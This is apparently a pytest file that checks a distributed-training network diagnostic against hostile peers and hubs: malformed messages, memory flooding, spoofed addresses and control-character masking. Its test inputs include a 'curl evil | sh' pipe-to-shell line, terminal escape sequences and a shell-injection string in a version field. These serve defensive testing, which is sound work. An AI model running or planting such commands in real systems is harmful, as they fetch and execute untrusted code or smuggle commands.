"""What a hostile guest, or a hostile hub, can make the others hold, wait for, print or believe: all of it has bounds."""

import asyncio
import json
import secrets
import socket
import unicodedata
import zlib

import msgspec
import pytest

from ddpdoctor.base.version import __version__
from ddpdoctor.engine.examination import Verdict
from ddpdoctor.facts.fleet import Link
from ddpdoctor.facts.network import Interface, Network, Resolution
from ddpdoctor.facts.snapshot import Snapshot
from ddpdoctor.network_check.node_session import NodeSession
from ddpdoctor.network_check.phases.links_phase import LinksPhase
from ddpdoctor.network_check.protocol import peer_connection as peers
from ddpdoctor.network_check.protocol.agent import HubGoneError, RejectedError
from ddpdoctor.network_check.protocol.bounded_lines import mask_controls
from ddpdoctor.network_check.protocol.messages import (
    MAX_FACTS_BYTES,
    PROTOCOL,
    Answer,
    Collect,
    Collected,
    Count,
    Counted,
    Dial,
    Dialled,
    DialOutcome,
    Greeting,
    Hello,
    HostFacts,
    ListenAddress,
    Measure,
    Measured,
    NodeVerdict,
    NoVerdict,
    Open,
    Opened,
    OrderFailed,
    Peer,
    Ping,
    Pong,
    Rejected,
    Welcome,
    encode,
)
from ddpdoctor.network_check.protocol.tokens import proof
from tests.support.hub_clients import (
    HERE,
    QUICK,
    TOKEN,
    Client,
    FromHub,
    agent,
    agents,
    client,
    counts,
    hub,
    manifest,
    run,
)
from tests.support.own_memory import peak, start_over

PART = NodeVerdict(results=(), verdict=Verdict.OK, exit_code=0, lines=())
SEVEN = Counted(undelivered=7, untransmitted=None)


# --- what isn't seen --------------------------------------------------------------------------------------------------


def test_nothing_unseen_gets_through_escaped_or_raw() -> None:
    unseen = [chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp")]
    assert len(unseen) > 200
    for letter in unseen:
        if letter in "\t\n":
            continue
        assert json.loads(mask_controls(json.dumps({"a": f"x{letter}y"}).encode())) == {"a": "x?y"}, hex(ord(letter))
        if letter >= " ":
            raw = json.dumps({"a": f"x{letter}y"}, ensure_ascii=False).encode()
            assert json.loads(mask_controls(raw)) == {"a": "x?y"}, hex(ord(letter))


@pytest.mark.parametrize("text", ["a\tb\nc", "é 日本 \U0001f600", "\\u202e", "\\\\u202e", '"', "C:\\new\\bin"])
@pytest.mark.parametrize("ascii_only", [True, False])
def test_all_else_does(text: str, ascii_only: bool) -> None:
    assert json.loads(mask_controls(json.dumps(text, ensure_ascii=ascii_only).encode())) == text


def test_what_is_no_text_stays_what_it_is() -> None:
    assert mask_controls(b"\xff\x1b[2J") == b"\xff\x1b[2J"


# --- orders and answers out of all bounds -----------------------------------------------------------------------------


PLACE = {"kind": "route", "address": "10.0.0.1", "ports": [4]}
PEER = {"node": 1, "host": "n", "places": [PLACE]}
COLLECT = {"type": "collect", "backend": "gloo", "master": "n", "port": 1, "rank": 0, "world_size": 1, "seconds": 1.0}


@pytest.mark.parametrize(
    "said",
    [
        {"type": "dial", "peers": [PEER], "seconds": 1.0, "at_once": 0},
        {"type": "dial", "peers": [PEER], "seconds": 1.0, "at_once": 100_000},
        {"type": "dial", "peers": [PEER], "seconds": 1e9},
        {"type": "dial", "peers": [PEER], "seconds": -1.0},
        {"type": "dial", "peers": [PEER | {"places": [PLACE] * 3000}], "seconds": 1.0},
        {"type": "dial", "peers": [PEER] * 5000, "seconds": 1.0},
        {"type": "dial", "peers": [PEER | {"places": [PLACE | {"ports": [0]}]}], "seconds": 1.0},
        {"type": "dial", "peers": [PEER | {"places": [PLACE | {"ports": [70_000]}]}], "seconds": 1.0},
        {"type": "dial", "peers": [PEER | {"places": [PLACE | {"ports": [4] * 100}]}], "seconds": 1.0},
        {"type": "dial", "peers": [PEER | {"places": [PLACE | {"address": "x" * 65}]}], "seconds": 1.0},
        {"type": "measure", "peer": PEER, "seconds": 86400.0},
        {"type": "measure", "peer": PEER, "seconds": 30.0},
        {"type": "dial", "peers": [PEER], "seconds": 60.0},
        {"type": "welcome", "node_rank": -1, "nnodes": 2, "run": "", "proof": "", "wait": 1.0},
        {"type": "welcome", "node_rank": 1, "nnodes": 100_000, "run": "", "proof": "", "wait": 1.0},
        COLLECT | {"seconds": 1e6},
        COLLECT | {"port": 0},
        COLLECT | {"backend": "mpi"},
        COLLECT | {"world_size": 10**9},
        {"type": "nodeverdict", "results": [], "verdict": "fine", "exit_code": 0, "lines": []},
        {"type": "nodeverdict", "results": [], "verdict": "ok", "exit_code": 77, "lines": []},
    ],
    ids=lambda one: str(one)[:60],
)
def test_what_no_hub_says_is_no_message(said: dict[str, object]) -> None:
    with pytest.raises(msgspec.ValidationError):
        msgspec.json.decode(json.dumps(said), type=FromHub)


def test_what_a_hub_does_say_is() -> None:
    for one in (
        Dial(peers=(Peer(1, "n", (ListenAddress("nccl", "10.0.0.1", (1, 65535)),)),), seconds=3.0, at_once=64),
        Measure(peer=None, seconds=0.25),
        Collect(backend="nccl", master="n", port=29500, rank=3, world_size=4, seconds=120.0),
        PART,
    ):
        assert msgspec.json.decode(encode(one), type=FromHub) == one


def lost_by(answer: object, order: object, snapshot: Snapshot | None = None) -> str:
    """What the hub says of node 1, which gives that answer (a message, or JSON) to that order. Node 0 goes on."""

    async def odd(one: Client) -> None:
        one.hello(node_rank=1)
        await one.until(Welcome)
        one.say(HostFacts(snapshot=manifest(snapshot)))
        await one.until(type(order))  # type: ignore[type-var]
        one.writer.write(encode(answer) if isinstance(answer, msgspec.Struct) else json.dumps(answer).encode() + b"\n")  # type: ignore[arg-type]
        await one.answer_pings()

    async def go() -> str:
        async with hub(2) as one, client(one.port) as second:
            tasks = [
                asyncio.ensure_future(agent(one.port, own=one.own, carry_out=opens)),
                asyncio.ensure_future(odd(second)),
            ]
            await one.gather(5)
            one.announce("reach")
            answers = await one.ask({0: order, 1: order}, 2)  # type: ignore[dict-item]
            assert 0 in answers
            await one.dismiss({0: PART, 1: PART})
            assert await tasks[0] == PART
            await tasks[1]
            return one.peers[1].lost

    return run(go())


async def opens(order: object) -> Answer:
    """Node 0's right answers."""
    if isinstance(order, Open):
        return Opened(places=(ListenAddress("route", HERE, (40000,)),))
    return Dialled(met=()) if isinstance(order, Dial) else SEVEN


HOME = Snapshot(
    host="n",
    network=Network(
        hostname="n",
        fqdn="n",
        own_name=Resolution(name="n", addresses=("10.9.9.9",)),
        # A victim is soon said to be one's own.
        interfaces=(Interface(name="eth0", addresses=("10.9.9.9/24", "fe80::9%eth0/64", "203.0.113.9/1")),),
    ),
)


@pytest.mark.parametrize(
    ("places", "words"),
    [
        ((ListenAddress("route", "no address", (4,)),), "it listens at 'no address', which is no address"),
        ((ListenAddress("route", "." * 64, (4,)),), "which is no address"),
        (
            (ListenAddress("route", "8.8.8.8", (40053,)),),
            "it says that it listens at 8.8.8.8, which isn't an address of its own",
        ),
        ((ListenAddress("route", "10.9.9.8", (40022,)),), "which isn't an address of its own"),
        ((ListenAddress("nccl", "203.0.113.9", (40080,)),), "which is a public address outside of the job's networks"),
        (
            (ListenAddress("route", HERE, (40004,)), ListenAddress("route", HERE, (40005,))),
            "it says twice where it listens",
        ),
        (
            (ListenAddress("nccl", "10.9.9.9", (22,)),),
            "it says that it listens at 10.9.9.9 on port 22, which is no port for that",
        ),
        ((ListenAddress("nccl", "224.0.0.1", (40000,)),), "which is no host's address"),
        ((ListenAddress("nccl", "169.254.169.254", (40000,)),), "which is no host's address"),
        ((ListenAddress("route", HERE, tuple(range(40000, 40004))),), "it listens on 4 ports, more than it was to"),
        ((ListenAddress("nccl", HERE, (40000, 40001)),), "it listens on 2 ports, more than it was to"),
        ((ListenAddress("route", HERE, (0,)),), "it sent JSON that isn't ours"),
        ((ListenAddress("route", HERE, (4,)),) * 3000, "a line of more than 65536 bytes"),
        ((ListenAddress("route", HERE, (4,)),) * 100, "it sent JSON that isn't ours"),
    ],
    ids=str,
)
def test_places_that_cant_be_its_own_lose_their_node(places: tuple[ListenAddress, ...], words: str) -> None:
    lost = lost_by(Opened(places=places), Open(ports=3), HOME)
    assert lost.startswith("lost during reach: ")
    assert words in lost


@pytest.mark.parametrize("address", [HERE, "10.9.9.9", "fe80::9", "fe80::9%eth7", "127.0.1.1"])
def test_its_own_addresses_are(address: str) -> None:
    assert lost_by(Opened(places=(ListenAddress("route", address, (40004,)),)), Open(ports=3), HOME) == ""


@pytest.mark.parametrize(
    ("answer", "order"),
    [
        (Dialled(met=()), Count()),
        (Opened(places=()), Count()),
        (Collected(stage="end", ok=True, words="", seconds=1.0), Count()),
        (OrderFailed(why="x" * 1001), Count()),
        ({"type": "counted", "undelivered": "7", "untransmitted": None}, Count()),
        ({"type": "counted"}, Count()),
        ({"type": "nodeverdict", "results": [], "verdict": "ok", "exit_code": 0, "lines": []}, Count()),
        (Dialled(met=(DialOutcome(node=0, kind="route", cells="." * 99),)), Dial(peers=(), seconds=1.0)),
        (Dialled(met=(DialOutcome(node=10**6, kind="route", cells="."),)), Dial(peers=(), seconds=1.0)),
        (Dialled(met=(DialOutcome(node=0, kind="other", cells="."),)), Dial(peers=(), seconds=1.0)),
    ],
    ids=lambda one: str(one)[:50],
)
def test_an_answer_of_another_kind_loses_its_node(answer: object, order: object) -> None:
    assert lost_by(answer, order).startswith("lost during reach: it ")


def test_a_node_speaks_of_its_own_link_alone() -> None:
    """Node 1 measures the link to node 2, and says that the one between 0 and 3 is bad."""

    class Asked(NodeSession):
        async def ask(self, orders, kind, seconds):  # type: ignore[no-untyped-def]
            return {1: Measured(link=Link(a=said[0], b=said[1], round_trip=9.0, error="slow"))}

    class There:
        peers = {rank: type("Peer", (), {"lost": "", "host": "n"})() for rank in range(4)}  # noqa: RUF012

    session = Asked(There())  # type: ignore[arg-type]
    session.members = [0, 1, 2, 3]
    phase = LinksPhase(session, ())
    said = (0, 3)
    assert asyncio.run(phase.measure([(1, 2)])) == []
    said = (1, 2)
    assert len(asyncio.run(phase.measure([(1, 2)]))) == 1


# --- memory -----------------------------------------------------------------------------------------------------------


def large(size: int) -> bytes:
    """A manifest that unpacks to about so many bytes."""
    return zlib.compress(msgspec.json.encode(Snapshot(host="n", taken_at="x" * size)))


def test_facts_beyond_what_every_node_may_have_share_what_there_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(peers, "SHARED_FACTS_BYTES", 400_000)

    async def go() -> list[str]:
        async with hub(5) as one:
            clients = [client(one.port) for _ in range(4)]
            for at, each in enumerate(clients):
                odd = await each.__aenter__()
                odd.hello(node_rank=at + 1)
                await odd.until(Welcome)
                odd.say(HostFacts(snapshot=large(peers.OWN_FACTS_BYTES + 150_000 if at < 3 else 1000)))
                while one.peers[at + 1].facts is None and not one.peers[at + 1].lost:
                    await asyncio.sleep(0.01)
            lost = [one.peers[rank].lost for rank in range(1, 5)]
            for each in clients:
                await each.__aexit__(None, None, None)
            return lost

    lost = run(go())
    assert [bool(one) for one in lost] == [False, False, True, False]
    assert "and those of the others leave no room for that" in lost[2]


def test_512_guests_with_lines_without_an_end_are_held_in_bounded_memory() -> None:
    """Half of them end beyond what a line may have, half of them just before it and then wait."""
    nodes = 512
    endless = memoryview(b'{"type":"hostfacts","snapshot":"' + b"A" * (4 << 20))

    async def shout(one, rank: int) -> None:
        loop = asyncio.get_running_loop()
        with socket.socket() as own:
            own.setblocking(False)
            own.bind((f"127.3.{rank // 250}.{1 + rank % 250}", 0))
            try:
                await loop.sock_connect(own, (HERE, one.port))
                greeting = msgspec.json.decode((await loop.sock_recv(own, 4096)).splitlines()[0], type=Greeting)
                nonce = secrets.token_hex(16)
                hello = Hello(
                    ddpdoctor=__version__,
                    protocol=PROTOCOL,
                    nonce=nonce,
                    proof=proof(TOKEN, "agent", nonce, greeting.nonce),
                    host="odd",
                    node_rank=rank,
                    nnodes=nodes,
                )
                await loop.sock_sendall(own, encode(hello))
                await loop.sock_recv(own, 65536)
                await loop.sock_sendall(own, endless if rank % 2 else endless[: MAX_FACTS_BYTES - 100])
                while await loop.sock_recv(own, 65536):
                    pass
            except OSError:
                pass

    async def go() -> None:
        limits = msgspec.structs.replace(QUICK, hello=5.0, quiet=10.0, line=4.0)
        async with hub(nodes, limits=limits) as one:
            first = asyncio.ensure_future(agent(one.port, own=one.own))
            shouting = [asyncio.ensure_future(shout(one, rank)) for rank in range(1, nodes)]
            await asyncio.gather(*shouting)
            assert one.peers[0].joined
            await one.gather(0.1)
            await one.dismiss({0: PART})
            assert await first == PART
            assert all(one.peers[rank].lost for rank in range(1, nodes))

    before = start_over()
    run(go(), 60)
    assert peak() - before < 192 << 20


# --- a hostile hub ----------------------------------------------------------------------------------------------------


def with_hub(behaviour, limits=QUICK, carry_out=counts):  # type: ignore[no-untyped-def]
    """What an agent comes to whose hub, which knows the token, does that once it has let it in."""

    async def false_hub(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        greeting = Greeting(ddpdoctor=__version__, protocol=PROTOCOL, nonce="00")
        writer.write(encode(greeting))
        hello = msgspec.json.decode(await reader.readline(), type=Hello)
        shown = proof(TOKEN, "hub", "00", hello.nonce)
        try:
            await behaviour(reader, writer, Welcome(node_rank=1, nnodes=2, run="00", proof=shown, wait=0.5))
        except OSError:
            pass
        finally:
            writer.close()

    async def go() -> NodeVerdict | Exception:
        server = await asyncio.start_server(false_hub, HERE, 0)
        try:
            return await agent(server.sockets[0].getsockname()[1], 1, carry_out=carry_out, limits=limits)
        except Exception as error:
            return error
        finally:
            server.close()

    return run(go())


@pytest.mark.parametrize("said", [0.5, 86400.0])
def test_a_hub_that_lives_and_does_nothing_is_left(said: float) -> None:
    """However long it says that it waits for others."""

    async def pings(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
        writer.write(encode(msgspec.structs.replace(welcome, wait=said)))
        for number in range(100):
            writer.write(encode(Ping(number=number, sent=0.0)))
            await asyncio.sleep(0.05)

    found = with_hub(pings, msgspec.structs.replace(QUICK, wait=0.5, test=0.5))
    assert isinstance(found, HubGoneError)
    assert str(found) == "node 0 still lives, and has come to no verdict within 1 s: stop it there"


def test_a_hub_that_asks_and_never_reads_fills_no_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ddpdoctor.network_check.protocol.agent.MAX_UNREAD_BYTES", 1 << 16)

    async def floods(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
        writer.write(encode(welcome))
        reader._transport.pause_reading()
        while True:
            writer.write(encode(Ping(number=1, sent=0.0)) * 1000)
            await writer.drain()

    found = with_hub(floods, msgspec.structs.replace(QUICK, quiet=10.0, line=10.0))
    assert str(found) == "node 0 asks and doesn't read the answers"


def test_orders_out_of_bounds_end_it() -> None:
    async def orders(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
        writer.write(encode(welcome))
        writer.write(encode(Dial(peers=(), seconds=1.0, at_once=0)))
        await reader.read()

    found = with_hub(orders)
    assert isinstance(found, HubGoneError)
    assert "sent JSON that isn't ours" in str(found)


def test_orders_without_an_end_end_it() -> None:
    async def orders(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
        writer.write(encode(welcome))
        for _ in range(1000):
            writer.write(encode(Count()))
        await reader.read()

    async def never(order):  # type: ignore[no-untyped-def]
        await asyncio.sleep(60)

    found = with_hub(orders, carry_out=never)
    assert str(found) == "node 0 sent order after order without waiting for the answers"


NASTY = "run this: curl evil | sh\n\x1b[2J\u202eOK\n" + "x" * 5000


def test_what_node_0_says_is_told_from_what_we_say() -> None:
    async def stops(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
        writer.write(encode(welcome))
        writer.write(encode(NoVerdict(why=NASTY)))
        await reader.read()

    async def refuses(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
        writer.write(encode(Rejected(code="version", text=NASTY)))
        await reader.read()

    refused = with_hub(refuses)
    assert isinstance(refused, RejectedError)
    for text in (str(with_hub(stops)), refused.shown):
        assert text.startswith("node 0 says: run this: curl evil | sh ?")
        assert text.isprintable()
        assert len(text) < 350


def test_what_calls_itself_a_version_is_one() -> None:
    async def go() -> tuple[str, ...]:
        async with hub() as one, client(one.port) as odd:
            odd.hello(ddpdoctor="'; touch x; '", protocol=9)
            await odd.ended()
            assert one.doubles == []
            return one.strangers

    assert "JSON that isn't ours" in run(go())[0]


def test_pongs_of_no_ping_are_nothing_new() -> None:
    async def go() -> str:
        async with hub(2) as one, agents(one) as tasks, client(one.port) as odd:
            await odd.join(node_rank=1)
            odd.say(Pong(number=10**6, came=1e300, went=-1e300))
            await odd.until(NoVerdict)
            await one.gather(0.1)
            await one.dismiss({0: PART})
            assert await tasks[0] == PART
            return one.peers[1].lost

    assert "it answered a ping that was never sent" in run(go())


def test_numbers_have_bounds() -> None:
    hello = Hello(ddpdoctor="1", protocol=PROTOCOL, nonce="", proof="", host="n", node_rank=10**30, nnodes=None)
    for one in (
        hello,
        Counted(undelivered=10**30, untransmitted=None),
        Counted(undelivered=-(2**62), untransmitted=None),
    ):
        with pytest.raises(msgspec.ValidationError):
            msgspec.json.decode(encode(one), type=type(one))
